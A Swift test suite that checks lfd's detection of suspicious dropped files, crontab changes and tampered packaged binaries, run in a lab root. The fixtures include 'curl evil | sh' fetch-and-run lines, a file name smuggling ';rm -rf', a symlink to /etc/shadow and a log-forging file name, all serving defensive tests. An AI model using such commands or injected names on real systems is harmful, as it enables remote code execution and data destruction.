import Foundation
import Testing
import CsfTestSupport

/// Issue 17 (directory and file watching, system integrity): lfd watching the lab's own /tmp, /etc/cron.d,
/// csf.dirwatch entries and /usr/bin (CSF_ROOT), never the host's. Files are owned by a uid no account has, as an
/// attacker's upload would be.
@Suite(.serialized, .enabled(if: NetLab.available, "needs root"))
struct FileWatchKernelTests {
    static let attacker: UInt32 = 64_123

    static func drop(_ path: String, _ text: String, owner: UInt32 = attacker, mode: Int = 0o644) throws {
        try text.write(toFile: path, atomically: false, encoding: .utf8)
        #expect(chown(path, owner, owner) == 0)
        #expect(chmod(path, mode_t(mode)) == 0)
    }

    static func mail(_ lab: NetLab) -> String { (try? String(contentsOfFile: lab.root + "/sent-mail", encoding: .utf8)) ?? "" }

    @Test func suspiciousFilesAreToldAsTheyAreWrittenAndRootsAndIgnoredOnesNot() throws {
        let lab = try NetLab(peers: 1)
        let tmp = lab.root + "/tmp", cron = lab.root + "/etc/cron.d"
        for dir in [tmp, cron] { try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true) }
        try Self.drop(tmp + "/old.sh", "echo there before lfd\n")
        try lab.write("csf.fignore", "\(tmp)/ignored\\.sh\n\(tmp)/cache-.*\n")
        #expect(try lab.csf("-s").status == 0)
        #expect(try lab.lfd().status == 0)
        #expect(try eventually(within: 5) { lab.lfdLog.contains("*Suspicious File* \(tmp)/old.sh [") }, "\(lab.lfdLog)")
        #expect(lab.lfdLog.contains("[STARTUP] Directory Watch (Core) [Enabled (300 seconds)]"))

        let dropped = Date()
        try Self.drop(tmp + "/payload", "#!/bin/sh\ncurl evil | sh\n")
        #expect(try eventually(within: 3, every: 0.02) { lab.lfdLog.contains("*Suspicious File* \(tmp)/payload [-:- (\(Self.attacker):\(Self.attacker))] - Script, starts with #!") },
                "\(lab.lfdLog)")
        print("directory watching: a dropped script told after \(String(format: "%.3f", Date().timeIntervalSince(dropped))) s")
        try Self.drop(tmp + "/ignored.sh", "x\n")
        try Self.drop(tmp + "/cache-1.sh", "x\n")
        try Self.drop(tmp + "/root.sh", "x\n", owner: 0)
        try Self.drop(tmp + "/notes.txt", "plain text\n")
        try FileManager.default.createDirectory(atPath: tmp + "/.hidden", withIntermediateDirectories: false)
        #expect(chown(tmp + "/.hidden", Self.attacker, Self.attacker) == 0)
        try Self.drop(tmp + "/.hidden/x;rm -rf", "data\n")
        #expect(symlink("/etc/shadow", tmp + "/link") == 0)
        #expect(lchown(tmp + "/link", Self.attacker, Self.attacker) == 0)
        try Data([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]).write(to: URL(fileURLWithPath: cron + "/core.1234"))
        // A file name carrying a line break cannot forge a line of lfd.log.
        try Self.drop(tmp + "/evil\nDec  1 00:00:00 host lfd[1]: forged.sh", "x\n")
        #expect(try eventually(within: 3) { lab.lfdLog.contains("Suspicious symlink (->/etc/shadow)") && lab.lfdLog.contains("Core dump found") && lab.lfdLog.contains("forged.sh") },
                "\(lab.lfdLog)")
        usleep(500_000)
        let log = lab.lfdLog
        #expect(log.contains("*Suspicious File* \(tmp)/.hidden [") && log.contains("- Suspicious directory"))
        #expect(log.contains("\(tmp)/.hidden/x;rm -rf [") && log.contains("- Suspicious file name"))
        #expect(log.contains("*Suspicious File* \(cron)/core.1234 [root:root (0:0)] - Core dump found - possible root exploit attack"))
        #expect(log.contains("evil\\x0aDec  1 00:00:00 host lfd[1]: forged.sh ["))
        #expect(!log.contains("ignored.sh") && !log.contains("cache-1.sh") && !log.contains("root.sh") && !log.contains("notes.txt"), "\(log)")
        #expect(try eventually(within: 5) { Self.mail(lab).contains("Subject: lfd on") && Self.mail(lab).contains("suspicious file \(tmp)/payload") }, "\(Self.mail(lab))")
        #expect(Self.mail(lab).contains("Reason: Script, starts with #!") && Self.mail(lab).contains("Action: No action taken"))
        #expect(log.components(separatedBy: "\(tmp)/payload [").count == 2, "told once within LF_FLUSH")
        #expect(FileManager.default.fileExists(atPath: tmp + "/payload"), "LF_DIRWATCH_DISABLE = 0 leaves it")
    }

    @Test func aBadFignoreLineStopsLfdWithItsFileAndLine() throws {
        let lab = try NetLab(peers: 1)
        try lab.write("csf.fignore", "/tmp/ok\n/tmp/(broken*\n")
        #expect(try lab.csf("-s").status == 0)
        let r = try lab.lfd()
        #expect(r.status != 0, "\(r)")
        #expect(r.stderr.contains("csf.fignore:2: error: invalid regular expression"), "\(r.stdout)\(r.stderr)\(lab.lfdLog)")
    }

    /// LF_DIRWATCH_DISABLE: the file judged is copied into suspicious.tar and removed, a symlink removed; a
    /// symlinked directory is never followed, so what it points at is untouched.
    @Test func quarantineMovesTheFileIntoSuspiciousTarAndNeverFollowsALink() throws {
        let lab = try NetLab(peers: 1)
        let tmp = lab.root + "/tmp", victim = lab.root + "/victim"
        for dir in [tmp, victim] { try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true) }
        try Self.drop(victim + "/important.sh", "#!/bin/sh\nkeep me\n")
        try lab.setConfig(["LF_DIRWATCH_DISABLE": "1"])
        #expect(try lab.csf("-s").status == 0)
        #expect(try lab.lfd().status == 0)
        #expect(try eventually(within: 5) { lab.lfdLog.contains("[STARTUP] Directory Watch (Core)") })
        #expect(symlink(victim, tmp + "/dir") == 0)
        #expect(lchown(tmp + "/dir", Self.attacker, Self.attacker) == 0)
        try Data([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 42]).write(to: URL(fileURLWithPath: tmp + "/miner"))
        #expect(chown(tmp + "/miner", Self.attacker, Self.attacker) == 0)
        #expect(try eventually(within: 3) { lab.lfdLog.contains("\(tmp)/miner [") && lab.lfdLog.contains("\(tmp)/dir [") }, "\(lab.lfdLog)")
        #expect(lab.lfdLog.contains("- Linux Binary - removed"))
        #expect(lab.lfdLog.contains("Suspicious symlink (->\(victim)) - symlink removed"))
        #expect(!FileManager.default.fileExists(atPath: tmp + "/miner"))
        #expect((try? FileManager.default.destinationOfSymbolicLink(atPath: tmp + "/dir")) == nil)
        #expect(FileManager.default.fileExists(atPath: victim + "/important.sh"), "a link is removed, never followed")
        let archive = lab.root + "/var/lib/csf/suspicious.tar"
        #expect(try eventually(within: 3) { FileManager.default.fileExists(atPath: archive) })
        let listing = try Shell.run(["tar", "-tvf", archive]).stdout
        #expect(listing.contains("tmp/") && listing.contains("-miner"), "\(listing)")
        let content = try Shell.run(["tar", "-xOf", archive]).stdout
        #expect(content.utf8.count == 9, "the file's bytes are kept")
        #expect(try eventually(within: 5) { Self.mail(lab).contains("Action: Moved into \(archive)") }, "\(Self.mail(lab))")
        let mode = try FileManager.default.attributesOfItem(atPath: archive)[.posixPermissions] as? Int
        #expect(mode == 0o600)
    }

    /// A burst of 100,000 suspicious files, a symlink loop, an unreadable directory and a watched directory removed:
    /// lfd keeps running, tells ten, says once that it holds the rest, and still tells the next one.
    @Test func aBurstAndBadDirectoriesAreToldOnceAndLfdKeepsWatching() throws {
        let lab = try NetLab(peers: 1)
        let tmp = lab.root + "/tmp"
        try FileManager.default.createDirectory(atPath: tmp + "/sub/deeper", withIntermediateDirectories: true)
        try FileManager.default.createDirectory(atPath: tmp + "/locked", withIntermediateDirectories: true)
        #expect(chmod(tmp + "/locked", 0) == 0)
        #expect(symlink("loop", tmp + "/loop") == 0)
        try lab.setConfig(["LF_DIRWATCH": "60"])
        #expect(try lab.csf("-s").status == 0)
        #expect(try lab.lfd().status == 0)
        #expect(try eventually(within: 5) { lab.lfdLog.contains("[STARTUP] Directory Watch (Core)") })
        usleep(300_000)
        let started = Date()
        let burst = try Shell.run(["sh", "-c", "cd \(tmp)/sub && seq -f 'f%.0f.sh' 1 100000 | xargs touch && chown -R \(Self.attacker) ."])
        #expect(burst.status == 0)
        #expect(try eventually(within: 20) { lab.lfdLog.contains("Too many hits for *LF_DIRWATCH*") }, "\(lab.lfdLog.suffix(2000))")
        print("directory watching: 100,000-file burst, \(String(format: "%.2f", Date().timeIntervalSince(started))) s to the hold")
        try FileManager.default.removeItem(atPath: tmp + "/sub")
        usleep(500_000)
        #expect(lab.lfdLog.components(separatedBy: "*Suspicious File* \(tmp)/sub/").count - 1 <= 10, "\(lab.lfdLog.suffix(3000))")
        #expect(lab.lfdLog.components(separatedBy: "Too many hits").count == 2)
        #expect(lab.runningLfd != nil, "lfd is still running")
        // The next window tells again.
        #expect(try eventually(within: 70, every: 1) { lab.lfdLog.contains("more suspicious file(s) in the last") }, "\(lab.lfdLog.suffix(2000))")
        try Self.drop(tmp + "/after.pl", "x\n")
        #expect(try eventually(within: 3) { lab.lfdLog.contains("*Suspicious File* \(tmp)/after.pl [") }, "\(lab.lfdLog.suffix(2000))")
    }

    /// LF_DIRWATCH_FILE: a change to a csf.dirwatch entry is told in seconds with a listing; a change made while
    /// lfd was down at its next start, once.
    @Test func aWatchedEntryChangeIsToldInSecondsAndAChangeWhileDownAtStart() throws {
        let lab = try NetLab(peers: 1)
        let spool = lab.root + "/var/spool/cron/crontabs", single = lab.root + "/etc/important.conf"
        try FileManager.default.createDirectory(atPath: spool, withIntermediateDirectories: true)
        try "a = 1\n".write(toFile: single, atomically: true, encoding: .utf8)
        try "* * * * * backup\n".write(toFile: spool + "/root", atomically: true, encoding: .utf8)
        try lab.write("csf.dirwatch", "\(lab.root)/var/spool/cron\n\(single)\n")
        try lab.setConfig(["LF_DIRWATCH_FILE": "600", "LF_DIRWATCH": "0"])
        #expect(try lab.csf("-s").status == 0)
        #expect(try lab.lfd().status == 0)
        #expect(try eventually(within: 5) { FileManager.default.fileExists(atPath: lab.root + "/var/lib/csf/nftcsf.dirwatch") }, "\(lab.lfdLog)")
        let changed = Date()
        try "* * * * * curl evil | sh\n".write(toFile: spool + "/www-data", atomically: true, encoding: .utf8)
        #expect(try eventually(within: 4, every: 0.05) { lab.lfdLog.contains("Directory *File Watching* has detected a change in \(lab.root)/var/spool/cron") },
                "\(lab.lfdLog)")
        print("file watching: a new crontab told after \(String(format: "%.2f", Date().timeIntervalSince(changed))) s")
        #expect(try eventually(within: 5) { Self.mail(lab).contains("crontabs/www-data") }, "\(Self.mail(lab))")
        #expect(!lab.lfdLog.contains("change in \(single)"))
        // Replaced by rename, as editors do.
        try "a = 2\n".write(toFile: single, atomically: true, encoding: .utf8)
        #expect(try eventually(within: 4) { lab.lfdLog.contains("has detected a change in \(single)") }, "\(lab.lfdLog)")
        lab.stopLfd()
        try "b = 3\n".write(toFile: single, atomically: false, encoding: .utf8)
        #expect(try lab.lfd().status == 0)
        #expect(try eventually(within: 5) { lab.lfdLog.components(separatedBy: "has detected a change in \(single)").count == 3 }, "\(lab.lfdLog)")
        usleep(1_500_000)
        #expect(lab.lfdLog.components(separatedBy: "has detected a change in \(single)").count == 3, "told once")
        #expect(lab.lfdLog.components(separatedBy: "has detected a change in \(lab.root)/var/spool/cron").count == 2)
    }

    /// LF_INTEGRITY against dpkg: a small package installed into the lab's root with dpkg; its binary changed by
    /// hand is an alert naming the package, an upgrade through dpkg is not, and a file no package owns is compared
    /// with lfd's own baseline.
    @Test func integrityTrustsThePackageManagerAndNotAHandEdit() throws {
        let lab = try NetLab(peers: 1)
        let work = lab.root + "/pkgwork"
        for dir in [work + "/pkg/DEBIAN", work + "/pkg/usr/bin", lab.root + "/var/lib/dpkg/info", lab.root + "/var/lib/dpkg/updates",
                    lab.root + "/usr/local/bin"] {
            try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        }
        FileManager.default.createFile(atPath: lab.root + "/var/lib/dpkg/status", contents: nil)
        func install(_ version: String, _ body: String) throws {
            try "Package: nftcsf-hello\nVersion: \(version)\nArchitecture: all\nMaintainer: t <t@example.com>\nDescription: test\n"
                .write(toFile: work + "/pkg/DEBIAN/control", atomically: true, encoding: .utf8)
            try Self.drop(work + "/pkg/usr/bin/nftcsf-hello", "#!/bin/sh\necho \(body)\n", owner: 0, mode: 0o755)
            try Shell.check(["dpkg-deb", "-b", "-Zgzip", work + "/pkg", work + "/hello.deb"])
            let r = try Shell.run(["dpkg", "--root=" + lab.root, "--force-script-chrootless", "-i", work + "/hello.deb"])
            #expect(r.status == 0, "\(r.stdout)\(r.stderr)")
        }
        try install("1.0", "one")
        try Self.drop(lab.root + "/usr/local/bin/site-tool", "#!/bin/sh\necho mine\n", owner: 0, mode: 0o755)
        try lab.setConfig(["LF_INTEGRITY": "3600", "LF_DIRWATCH": "0"])
        #expect(try lab.csf("-s").status == 0)
        #expect(try lab.lfd().status == 0)
        let baseline = lab.root + "/var/lib/csf/nftcsf.integrity"
        #expect(try eventually(within: 5) { FileManager.default.fileExists(atPath: baseline) }, "\(lab.lfdLog)")
        #expect(((try? String(contentsOfFile: baseline, encoding: .utf8)) ?? "").contains("/usr/local/bin/site-tool"))

        try install("2.0", "two")
        usleep(4_000_000)
        #expect(!lab.lfdLog.contains("*System Integrity*"), "an upgrade through dpkg is no alert\n\(lab.lfdLog)")

        let edited = Date()
        let hello = lab.root + "/usr/bin/nftcsf-hello"
        let handle = try FileHandle(forWritingTo: URL(fileURLWithPath: hello))
        handle.seekToEndOfFile()
        handle.write("curl evil | sh\n".data(using: .utf8)!)
        try handle.close()
        #expect(try eventually(within: 6, every: 0.1) { lab.lfdLog.contains("*System Integrity* has detected modified file(s): \(hello)") }, "\(lab.lfdLog)")
        print("integrity: a hand-edited packaged binary told after \(String(format: "%.2f", Date().timeIntervalSince(edited))) s")
        #expect(try eventually(within: 5) { Self.mail(lab).contains("\(hello): modified outside of package nftcsf-hello - not by the package manager") },
                "\(Self.mail(lab))")
        try Self.drop(lab.root + "/usr/local/bin/site-tool", "#!/bin/sh\necho changed\n", owner: 0, mode: 0o755)
        #expect(try eventually(within: 6) { Self.mail(lab).contains("/usr/local/bin/site-tool: changed (owned by no package)") }, "\(Self.mail(lab))")
        try Self.drop(lab.root + "/usr/bin/dropped", "#!/bin/sh\n", owner: 0, mode: 0o755)
        #expect(try eventually(within: 6) { Self.mail(lab).contains("/usr/bin/dropped: new file owned by no package") }, "\(Self.mail(lab))")
        // A name that is not UTF-8 cannot hide: it is told.
        let badName = lab.root + "/usr/local/bin/x\u{FFFD}"
        let raw = Array((lab.root + "/usr/local/bin/x").utf8) + [0xff, 0]
        let fd = raw.withUnsafeBufferPointer { $0.withMemoryRebound(to: CChar.self) { open($0.baseAddress!, O_WRONLY | O_CREAT, 0o755) } }
        #expect(fd >= 0)
        close(fd)
        #expect(try eventually(within: 6) { Self.mail(lab).contains("\(badName): a file whose name is not UTF-8") }, "\(Self.mail(lab))")
        usleep(3_000_000)
        #expect(lab.lfdLog.components(separatedBy: "modified file(s): \(hello)").count == 2, "told once\n\(lab.lfdLog)")
        // Reinstalling puts the packaged file back: quiet again, and a later hand edit is told again.
        try install("2.0", "two")
        usleep(3_000_000)
        #expect(lab.lfdLog.components(separatedBy: "modified file(s): \(hello)").count == 2, "\(lab.lfdLog)")
    }

    /// LF_INTEGRITY against rpm (the Red Hat family's path): a small package built with rpmbuild and installed into
    /// the lab's root with rpm; a hand edit is told with the package's name, an upgrade through rpm is not.
    @Test func integrityTrustsRpmToo() throws {
        let lab = try NetLab(peers: 1)
        let top = lab.root + "/rpmwork"
        for dir in [top + "/SPECS", lab.root + "/var/lib/rpm", lab.root + "/usr/bin"] {
            try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        }
        func install(_ version: String, _ body: String, upgrade: Bool) throws {
            try """
            Name: nftcsf-hello
            Version: \(version)
            Release: 1
            Summary: test
            License: MIT
            BuildArch: noarch
            %description
            test
            %install
            mkdir -p %{buildroot}/usr/bin
            printf '#!/bin/sh\\necho \(body)\\n' > %{buildroot}/usr/bin/nftcsf-hello
            chmod 755 %{buildroot}/usr/bin/nftcsf-hello
            %files
            /usr/bin/nftcsf-hello
            """.write(toFile: top + "/SPECS/hello.spec", atomically: true, encoding: .utf8)
            let built = try Shell.run(["rpmbuild", "--define", "_topdir \(top)", "-bb", top + "/SPECS/hello.spec"])
            #expect(built.status == 0, "\(built)")
            let rpm = top + "/RPMS/noarch/nftcsf-hello-\(version)-1.noarch.rpm"
            let r = try Shell.run(["rpm", "--root", lab.root, "--dbpath", "/var/lib/rpm", "--nodeps", "--noscripts", upgrade ? "-U" : "-i", rpm])
            #expect(r.status == 0, "\(r)")
        }
        try install("1.0", "one", upgrade: false)
        try lab.setConfig(["LF_INTEGRITY": "3600", "LF_DIRWATCH": "0"])
        #expect(try lab.csf("-s").status == 0)
        #expect(try lab.lfd().status == 0)
        #expect(try eventually(within: 10) { lab.lfdLog.contains("System Integrity: ") }, "\(lab.lfdLog)")
        #expect(lab.lfdLog.contains("against 1 packaged checksums"), "\(lab.lfdLog)")
        try install("2.0", "two", upgrade: true)
        usleep(4_000_000)
        #expect(!lab.lfdLog.contains("*System Integrity*"), "an upgrade through rpm is no alert\n\(lab.lfdLog)")
        let hello = lab.root + "/usr/bin/nftcsf-hello"
        try Self.drop(hello, "#!/bin/sh\necho evil\n", owner: 0, mode: 0o755)
        #expect(try eventually(within: 6) { Self.mail(lab).contains("\(hello): modified outside of package nftcsf-hello - not by the package manager") },
                "\(Self.mail(lab))\n\(lab.lfdLog)")
    }
}
